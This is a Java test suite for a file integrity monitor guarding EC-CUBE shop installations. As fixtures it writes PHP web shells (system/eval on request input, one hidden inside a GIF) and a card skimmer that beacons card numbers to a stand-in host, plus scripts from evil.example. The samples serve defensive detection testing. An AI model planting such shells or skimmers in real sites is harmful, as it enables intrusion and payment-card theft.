package dev.mimamori.fim;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.mimamori.model.Severity;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.NoSuchFileException;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class IntegrityCheckTest {
  @TempDir Path temp;

  @Test
  void reportsNothingWhenNothingChanged() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    assertThat(t.check()).isEmpty();
  }

  @Test
  void readsNoFileWhoseSizeMtimeAndInodeAreUnchanged() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    CheckStats stats = t.checker().check(t.root, c -> {});
    assertThat(stats.hashed()).isZero();
  }

  @Test
  void baselineHashesEveryFileNotIgnored() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    CheckStats stats = t.baseline();
    assertThat(stats.hashed()).isEqualTo(4);
  }

  @Test
  void refusesToCheckWithoutBaseline() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    assertThatThrownBy(t::check)
        .isInstanceOf(NoSuchFileException.class)
        .hasMessageContaining("fim baseline");
  }

  @Test
  void reportsAnAddedFile() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    t.write("html/robots.txt", "User-agent: *\n");
    Change c = Tree.only(t.check());
    assertThat(c.change()).isEqualTo(ChangeKind.ADDED);
  }

  @Test
  void reportsAModifiedFileOfTheSameSize() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.age("index.php");
    t.baseline();
    t.write(
        "index.php", "<?php\nrequire __DIR__.'/autoload.php';\n".replace("autoload", "autoLoad"));
    Change c = Tree.only(t.check());
    assertThat(c.change()).isEqualTo(ChangeKind.MODIFIED);
  }

  @Test
  void aFullPassHashesEveryFileAgain() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    CheckStats stats = t.checker(FimOptions.defaults().withFull(true)).check(t.root, c -> {});
    assertThat(stats.hashed()).isEqualTo(4);
  }

  @Test
  void reportsADeletedFile() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    Files.delete(t.path("index.php"));
    assertThat(Tree.only(t.check()).change()).isEqualTo(ChangeKind.DELETED);
  }

  @Test
  void reportsAPermissionChange() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    Files.setPosixFilePermissions(
        t.path("index.php"), PosixFilePermissions.fromString("rwxr-xr-x"));
    assertThat(Tree.only(t.check()).change()).isEqualTo(ChangeKind.PERMISSIONS);
  }

  @Test
  void aFileMadeWorldWritableIsMedium() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    Files.setPosixFilePermissions(
        t.path("index.php"), PosixFilePermissions.fromString("rw-rw-rw-"));
    assertThat(Tree.only(t.check()).severity()).isEqualTo(Severity.MEDIUM);
  }

  @Test
  void aFileReplacedByALinkOutOfTheRootIsHigh() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.write("html/robots.txt", "x\n");
    t.baseline();
    Files.delete(t.path("html/robots.txt"));
    Files.createSymbolicLink(t.path("html/robots.txt"), Path.of("/etc/passwd"));
    Change c = Tree.only(t.check());
    assertThat(c.change()).isEqualTo(ChangeKind.TYPE);
    assertThat(c.severity()).isEqualTo(Severity.HIGH);
  }

  @Test
  void aSymlinkLoopIsRecordedNotFollowed() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    Files.createSymbolicLink(t.path("html/loop"), t.path("html"));
    CheckStats stats = t.baseline();
    assertThat(stats.problems()).isZero();
  }

  @Test
  void aChangedLinkTargetIsAModification() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    Files.createSymbolicLink(t.path("html/current"), Path.of("a"));
    t.baseline();
    Files.delete(t.path("html/current"));
    Files.createSymbolicLink(t.path("html/current"), Path.of("b"));
    assertThat(Tree.only(t.check()).change()).isEqualTo(ChangeKind.MODIFIED);
  }

  @Test
  void aFifoIsRecordedWithoutBeingOpened() throws Exception {
    Tree t = Tree.eccube(temp, "4.2.0");
    Process p = new ProcessBuilder("mkfifo", t.path("html/pipe").toString()).start();
    org.junit.jupiter.api.Assumptions.assumeTrue(p.waitFor() == 0, "mkfifo not available");
    t.baseline();
    Files.delete(t.path("html/pipe"));
    assertThat(Tree.only(t.check()).before().kind()).isEqualTo(FileKind.OTHER);
  }

  @Test
  void phpInUserDataIsCritical() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    t.write("html/user_data/page.php", "<?php echo 1;\n");
    assertThat(Tree.only(t.check()).severity()).isEqualTo(Severity.CRITICAL);
  }

  @Test
  void phpInsideAnImageInUploadsIsCritical() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    Files.createDirectories(t.path("html/upload/save_image"));
    t.baseline();
    byte[] gif =
        "GIF89a\u0001\u0000\u0001\u0000\u0000\u0000<?php system($_GET['c']); ?>"
            .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
    Files.write(t.path("html/upload/save_image/logo.gif"), gif);
    assertThat(Tree.only(t.check()).severity()).isEqualTo(Severity.CRITICAL);
  }

  @Test
  void aSkimmerAddedToCustomizeJsIsHigh() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.age("html/user_data/assets/js/customize.js");
    t.baseline();
    t.write(
        "html/user_data/assets/js/customize.js",
        "// customize\n"
            + "document.forms[0].addEventListener('submit',function(){"
            + "var c=document.querySelector('#shopping_order_card_number').value;"
            + "navigator.sendBeacon('https://cdn-jquery.example.com/c',btoa(c));});\n");
    Change c = Tree.only(t.check());
    assertThat(c.severity()).isEqualTo(Severity.HIGH);
  }

  @Test
  void theDiffOfAChangedTemplateNamesTheScriptHostItAdds() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.age("app/template/default/Shopping/index.twig");
    t.baseline();
    t.write(
        "app/template/default/Shopping/index.twig",
        "<form>{{ form_widget(form.card_no) }}</form>\n<script src=\"https://js.evil.example/b.js\"></script>\n");
    Change c = Tree.only(t.check());
    assertThat(c.diff().scriptHostsAdded()).containsExactly("js.evil.example");
  }

  @Test
  void ignoresEcCubeVarByDefault() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    t.write("var/cache/prod/b.php", "<?php return 1;\n");
    t.write("var/log/prod/site.log", "x\n");
    assertThat(t.check()).isEmpty();
  }

  @Test
  void seesEcCubeVarWithoutDefaultIgnores() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    FimOptions all = FimOptions.defaults().withIgnores(false, List.of());
    t.checker(all).baseline(t.root);
    t.write("var/cache/prod/b.php", "<?php return 1;\n");
    assertThat(t.check(all)).hasSize(1);
  }

  @Test
  void extraIgnoreGlobsApply() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    FimOptions opts = FimOptions.defaults().withIgnores(true, List.of("*.bak"));
    t.checker(opts).baseline(t.root);
    t.write("index.php.bak", "old\n");
    assertThat(t.check(opts)).isEmpty();
  }

  @Test
  void updateAcceptsWhatWasSeen() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    t.write("html/robots.txt", "x\n");
    t.check(FimOptions.defaults().withUpdate(true));
    assertThat(t.check()).isEmpty();
  }

  @Test
  void withoutUpdateAChangeIsReportedAgain() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    t.write("html/robots.txt", "x\n");
    t.check();
    assertThat(t.check()).hasSize(1);
  }

  @Test
  void groupsAnUpgradeIntoOneLowChange() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    for (int i = 0; i < 50; i++) {
      t.write("src/Eccube/Controller/C" + i + ".php", "<?php // v1 " + i + "\n");
    }
    t.age("src/Eccube/Common/Constant.php");
    t.baseline();
    t.write(
        "src/Eccube/Common/Constant.php",
        "<?php\nclass Constant {\n    const VERSION = '4.2.1';\n}\n");
    for (int i = 0; i < 50; i++) {
      t.write("src/Eccube/Controller/C" + i + ".php", "<?php // version 2 of " + i + "\n");
    }
    t.write("src/Eccube/Controller/New.php", "<?php // new in 4.2.1\n");
    Change c = Tree.only(t.check());
    assertThat(c.change()).isEqualTo(ChangeKind.UPGRADE);
    assertThat(c.files()).isEqualTo(52);
  }

  @Test
  void anUpgradeDoesNotHideAShellInUploads() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    t.write(
        "src/Eccube/Common/Constant.php",
        "<?php\nclass Constant {\n    const VERSION = '4.2.1';\n}\n");
    t.write("html/user_data/x.php", "<?php echo 1;\n");
    List<Change> changes = t.check();
    assertThat(changes)
        .extracting(Change::change)
        .containsExactly(ChangeKind.ADDED, ChangeKind.UPGRADE);
  }

  @Test
  void walksInPathOrderSoTrickyNamesMerge() throws IOException {
    Tree t = new Tree(temp);
    t.write("a/b", "1");
    t.write("a.txt", "2");
    t.write("a b/c", "3");
    t.write("a-/d", "4");
    t.baseline();
    t.write("a/c", "5");
    assertThat(Tree.only(t.check()).path()).isEqualTo("a/c");
  }

  @Test
  void reportsANameThatIsNotUtf8AndGoesOn() throws Exception {
    Tree t = new Tree(temp);
    t.write("ok.txt", "1");
    Process p =
        new ProcessBuilder("bash", "-c", "touch $'bad\\xff.php'")
            .directory(t.root.toFile())
            .start();
    org.junit.jupiter.api.Assumptions.assumeTrue(p.waitFor() == 0, "bash not available");
    t.baseline();
    assertThat(t.problems).extracting(WalkProblem::reason).anyMatch(r -> r.contains("escaped"));
  }

  @Test
  void aShellWithANameThatIsNotUtf8IsStillReported() throws Exception {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    Process p =
        new ProcessBuilder("bash", "-c", "printf '<?php @eval($_POST[1]);' > $'x\\xff.php'")
            .directory(t.path("html/user_data").toFile())
            .start();
    org.junit.jupiter.api.Assumptions.assumeTrue(p.waitFor() == 0, "bash not available");
    Change c = Tree.only(t.check());
    assertThat(List.of(c.path(), c.severity().label()))
        .containsExactly("html/user_data/x%FF.php", "critical");
  }

  @Test
  void twoNamesThatDecodeAlikeAreBothRecorded() throws Exception {
    Tree t = new Tree(temp);
    Process p =
        new ProcessBuilder("bash", "-c", "touch $'0\\xef\\xbf\\xbd' $'0\\xff'")
            .directory(t.root.toFile())
            .start();
    org.junit.jupiter.api.Assumptions.assumeTrue(p.waitFor() == 0, "bash not available");
    assertThat(t.baseline().entries()).isEqualTo(2);
  }

  @Test
  void aTruncatedBaselineIsAnErrorNotAnEmptyTree() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    Path file = new FimStore(t.data).baseline(t.root);
    byte[] bytes = Files.readAllBytes(file);
    Files.write(file, java.util.Arrays.copyOf(bytes, bytes.length - 20));
    assertThatThrownBy(t::check).isInstanceOf(IOException.class).hasMessageContaining("truncated");
  }

  @Test
  void manyFilesInParallelGiveTheSameChangesAsOneThread() throws IOException {
    Tree t = new Tree(temp);
    for (int i = 0; i < 300; i++) {
      t.write("d" + (i % 7) + "/f" + i + ".js", "var x = " + i + ";\n");
    }
    t.checker(FimOptions.defaults().withThreads(4)).baseline(t.root);
    for (int i = 0; i < 300; i += 3) {
      t.write("d" + (i % 7) + "/f" + i + ".js", "var x = " + (i * 1000 + 1) + ";\n");
    }
    List<String> serial = new ArrayList<>();
    t.checker(FimOptions.defaults().withThreads(1)).check(t.root, c -> serial.add(c.path()));
    List<String> parallel = new ArrayList<>();
    t.checker(FimOptions.defaults().withThreads(4)).check(t.root, c -> parallel.add(c.path()));
    assertThat(parallel).hasSize(100).isEqualTo(serial);
  }

  /** A scanner that flags every file it is shown, to see which files reach the scanners. */
  private static final class FlagEverything implements dev.mimamori.scan.ContentScanner {
    @Override
    public String engine() {
      return "test";
    }

    @Override
    public List<dev.mimamori.scan.Finding> scan(dev.mimamori.scan.ScanInput input) {
      return List.of(
          new dev.mimamori.scan.Finding("test", "all", Severity.HIGH, "flagged", List.of()));
    }
  }

  @Test
  void changedContentIsScanned() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    t.write("html/a.js", "var a = 1;\n");
    FimOptions scanning = FimOptions.defaults().withScanners(List.of(new FlagEverything()));
    assertThat(Tree.only(t.check(scanning)).findings()).hasSize(1);
  }

  @Test
  void contentOnTheAllowListIsNotScanned() throws Exception {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    t.write("html/a.js", "var a = 1;\n");
    byte[] sha =
        java.security.MessageDigest.getInstance("SHA-256").digest("var a = 1;\n".getBytes());
    FimOptions scanning =
        FimOptions.defaults()
            .withScanners(List.of(new FlagEverything()))
            .withAllowList(dev.mimamori.scan.allow.AllowList.of("t", List.of(sha)));
    assertThat(Tree.only(t.check(scanning)).findings()).isEmpty();
  }

  @Test
  void aShellInAFolderNamedVarInsideUploadsIsNotIgnored() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    t.write("html/upload/var/shell.php", "<?php echo 1;\n");
    assertThat(t.check()).extracting(Change::path).contains("html/upload/var/shell.php");
  }

  @Test
  void addingAFolderIgnoreRuleDoesNotReportTheFolderDeleted() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.write("logs/a.log", "x\n");
    t.baseline();
    assertThat(t.check(FimOptions.defaults().withIgnores(true, List.of("/logs/")))).isEmpty();
  }

  @Test
  void aSameSizeRewriteWithTheMtimePutBackIsSeenThroughTheCtime() throws Exception {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.age("index.php");
    t.baseline();
    FileTime old = Files.getLastModifiedTime(t.path("index.php"));
    Thread.sleep(20); // past the file system's timestamp granularity
    Files.writeString(t.path("index.php"), "<?php\nrequire __DIR__.'/autoLoad.php';\n");
    Files.setLastModifiedTime(t.path("index.php"), old);
    assertThat(Tree.only(t.check()).change()).isEqualTo(ChangeKind.MODIFIED);
  }

  @Test
  void anUnreadableNewFileIsStillReportedAdded() throws Exception {
    org.junit.jupiter.api.Assumptions.assumeFalse(
        "root".equals(System.getProperty("user.name")), "root reads anything");
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    Path p = t.write("html/user_data/x.php", "<?php\n");
    Files.setPosixFilePermissions(p, PosixFilePermissions.fromString("---------"));
    assertThat(Tree.only(t.check()).change()).isEqualTo(ChangeKind.ADDED);
  }

  @Test
  void anUpgradeDoesNotAbsorbAFileTheScannersFlag() throws IOException {
    // Regression (review): editing the version string with a dropped PHP file in the same window
    // folded the new file into one low "upgrade" change.
    Tree t = Tree.eccube(temp, "4.2.0");
    t.age("src/Eccube/Common/Constant.php");
    t.baseline();
    t.write(
        "src/Eccube/Common/Constant.php",
        "<?php\nclass Constant {\n    const VERSION = '4.2.1';\n}\n");
    t.write("src/Eccube/Controller/X.php", "<?php @eval($_POST[1]);\n");
    FimOptions scanning = FimOptions.defaults().withScanners(List.of(new FlagEverything()));
    assertThat(t.check(scanning)).extracting(Change::path).contains("src/Eccube/Controller/X.php");
  }

  @Test
  void runsOnOneRootFromManyThreadsLeaveAUsableBaseline() throws Exception {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    t.write("html/robots.txt", "x\n");
    java.util.concurrent.ExecutorService pool =
        java.util.concurrent.Executors.newFixedThreadPool(4);
    List<java.util.concurrent.Future<CheckStats>> runs = new ArrayList<>();
    for (int i = 0; i < 8; i++) {
      boolean baseline = i % 2 == 0;
      runs.add(
          pool.submit(
              () ->
                  baseline
                      ? t.checker().baseline(t.root)
                      : t.checker(FimOptions.defaults().withUpdate(true)).check(t.root, c -> {})));
    }
    for (var r : runs) {
      r.get();
    }
    pool.shutdown();
    assertThat(t.check()).isEmpty();
  }

  @Test
  void phpPastTheKeptSizeOfAnUploadedImageIsStillCritical() throws IOException {
    // Regression (review): the tag was looked for only in the first 512 KiB.
    Tree t = Tree.eccube(temp, "4.2.0");
    Files.createDirectories(t.path("html/upload/save_image"));
    t.baseline();
    byte[] gif = new byte[ContentPack.MAX_KEPT + 100_000];
    gif[0] = 'G';
    byte[] tag = "<?php system($_GET[1]);".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
    System.arraycopy(tag, 0, gif, gif.length - tag.length, tag.length);
    Files.write(t.path("html/upload/save_image/big.gif"), gif);
    assertThat(Tree.only(t.check()).severity()).isEqualTo(Severity.CRITICAL);
  }

  @Test
  void aShortOpenTagInAnUploadIsCritical() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    Files.createDirectories(t.path("html/upload/save_image"));
    t.baseline();
    t.write("html/upload/save_image/a.jpg", "\u00ff\u00d8<? system($_GET[1]); ?>");
    assertThat(Tree.only(t.check()).severity()).isEqualTo(Severity.CRITICAL);
  }

  @Test
  void anSvgWithAnXmlDeclarationIsNotPhp() throws IOException {
    Tree t = Tree.eccube(temp, "4.2.0");
    Files.createDirectories(t.path("html/upload/save_image"));
    t.baseline();
    t.write("html/upload/save_image/a.svg", "<?xml version=\"1.0\"?><svg/>");
    assertThat(Tree.only(t.check()).severity()).isLessThan(Severity.HIGH);
  }

  @Test
  void theStreamingTagFinderSeesATagSplitAcrossBuffers() {
    Hashing.PhpTagFinder f = new Hashing.PhpTagFinder();
    f.feed("xx<?p".getBytes(java.nio.charset.StandardCharsets.US_ASCII), 5);
    f.feed("hp ".getBytes(java.nio.charset.StandardCharsets.US_ASCII), 3);
    assertThat(f.found).isTrue();
  }

  @Test
  void compactionKeepsOnlyLiveCopiesAndDiffsStillWork() throws Exception {
    Tree t = Tree.eccube(temp, "4.2.0");
    t.baseline();
    FimOptions update = FimOptions.defaults().withUpdate(true);
    String js = "html/user_data/assets/js/customize.js";
    for (int i = 0; i < 20; i++) {
      t.write(js, "// customize\n" + "var v = " + i + ";\n".repeat(1 + i));
      t.check(update);
    }
    Path pack = new FimStore(t.data).contentPack(t.root);
    long before = Files.size(pack);
    t.checker().compact(FimStore.canonical(t.root), pack);
    long after = Files.size(pack);
    t.write(js, "// customize\nvar v = 19;\n<script src=\"https://evil.example/x.js\"></script>\n");
    Change c = Tree.only(t.check());
    assertThat(after).isLessThan(before / 4);
    assertThat(c.diff().scriptHostsAdded()).containsExactly("evil.example");
  }
}
